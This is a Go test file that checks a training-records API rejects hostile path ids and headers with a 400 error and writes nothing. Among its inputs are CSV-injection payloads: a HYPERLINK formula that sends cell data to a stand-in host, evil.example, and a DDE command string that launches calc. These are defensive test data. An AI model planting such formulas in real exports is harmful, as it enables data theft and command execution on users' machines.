package badinput_test

import (
	"strings"
	"testing"

	"github.com/craftledger/craftledger/services/craftledger/security/sectest"
)

// TestPathAndHeaderInput: hostile path ids (a stream-name escape with '/'
// or '$', NUL, spaces, 3,000 characters) and oversized idempotency and
// correlation headers, and correlation or causation ids outside letters,
// digits and _ . : - (a spreadsheet formula would be stored in the events'
// metadata and exported into CSV cells) are refused with 400 and the field
// or header named, writing nothing.
func TestPathAndHeaderInput(t *testing.T) {
	e := sectest.Start(t, sectest.Options{})
	body := `{"academyId":"` + sectest.AcademyB + `","courseId":"` + sectest.CourseB + `","hours":8,"passed":true}`
	cases := []struct {
		name, id string
		headers  []string
		field    string
		message  string
	}{
		{"id of 3,000 characters", strings.Repeat("x", 3000), nil, "craftsmanId", ""},
		{"id with an encoded slash", "a%2Fb", nil, "craftsmanId", ""},
		{"id naming a system stream", "%24all", nil, "craftsmanId", ""},
		{"id with NUL", "c-1%00", nil, "craftsmanId", ""},
		{"id with a space", "c-1%20", nil, "craftsmanId", ""},
		{"Idempotency-Key over 200 characters", sectest.Worker, []string{"Idempotency-Key", strings.Repeat("k", 201)}, "", ""},
		{"X-Correlation-ID over 200 characters", sectest.Worker, []string{"X-Correlation-ID", strings.Repeat("c", 5000)}, "", ""},
		{"X-Causation-ID over 200 characters", sectest.Worker, []string{"X-Causation-ID", strings.Repeat("c", 201)}, "", ""},
		{"X-Correlation-ID a formula", sectest.Worker, []string{"X-Correlation-ID", `=HYPERLINK("http://evil.example/?"&A1,"open")`}, "",
			`header X-Correlation-ID: has character '='`},
		{"X-Causation-ID a DDE command", sectest.Worker, []string{"X-Causation-ID", "+cmd|' /C calc'!A0"}, "",
			`header X-Causation-ID: has character '+'`},
		{"X-Correlation-ID with a space", sectest.Worker, []string{"X-Correlation-ID", "run 7"}, "", `header X-Correlation-ID: has character ' '`},
	}
	for _, c := range cases {
		before := e.End()
		r := e.Do(sectest.IssuerB, "POST", "/api/training/v1/craftsmen/"+c.id+"/completions", "", body, c.headers...)
		if r.Status != 400 || r.Err().Code != "INVALID_ARGUMENT" || r.Err().Field != c.field || !strings.Contains(r.Err().Message, c.message) {
			t.Errorf("%s: %.300s, want 400 INVALID_ARGUMENT field %q message %q", c.name, r, c.field, c.message)
		}
		if e.End() != before {
			t.Errorf("%s: wrote", c.name)
		}
	}
}
